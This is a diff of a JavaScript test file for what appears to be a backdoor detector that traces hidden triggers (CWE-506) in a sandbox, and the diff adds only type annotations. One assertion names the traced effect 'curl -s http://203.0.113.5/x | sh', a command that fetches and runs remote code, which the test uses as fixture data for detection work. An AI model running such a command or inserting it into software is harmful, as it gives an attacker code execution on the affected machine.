@@ -24,14 +24,15 @@ test('verification reports the sandbox pass findings of the same unit, from the 
   assert.deepEqual(unit.sandboxFindings.map((f) => [f.ruleId, f.span]), sandbox.findings.map((f) => [f.ruleId, f.span]));
   assert.deepEqual(unit.sandboxFindings.map((f) => f.ruleId), ['hidden-trigger']);
   // The input the search found is among those the model is asked about, and its true trace has the effect.
-  const i = unit.inputs.findIndex((args) => /^ZZx+!q$/.test(args[0].body.code));
-  assert.ok(i > 0, JSON.stringify(unit.inputs.map((a) => a[0].body)));
+  const i = unit.inputs.findIndex((args) => /^ZZx+!q$/.test(/** @type {any} */ (args[0]).body.code));
+  assert.ok(i > 0, JSON.stringify(unit.inputs.map((a) => /** @type {any} */ (a[0]).body)));
   assert.deepEqual(unit.truth[i].effects.filter((e) => e.kind === 'process').map((e) => e.target), ['curl -s http://203.0.113.5/x | sh']);
 });
 
 test('a finding both passes report is shown once', () => {
+  /** @type {import('../../../server/dist/core/types').Finding} */
   const f = { ruleId: 'hidden-trigger', cwe: ['CWE-506'], severity: 'error', message: 'm', span: { start: 5, end: 9 } };
   const report = { uri: 'file:///a.js', version: 3, findings: [f], notices: [] };
-  const merged = withSandboxReport(report, { uri: 'file:///a.js', version: 3, findings: [{ ...f }], notices: [], unitsTraced: 1, unitsCached: 0, elapsedMs: 1 });
+  const merged = withSandboxReport(/** @type {import('../../../server/dist/engine/analyze').DocumentReport} */ (report), { uri: 'file:///a.js', version: 3, findings: [{ ...f }], notices: [], unitsTraced: 1, unitsCached: 0, elapsedMs: 1 });
   assert.equal(merged.findings.length, 1);
 });
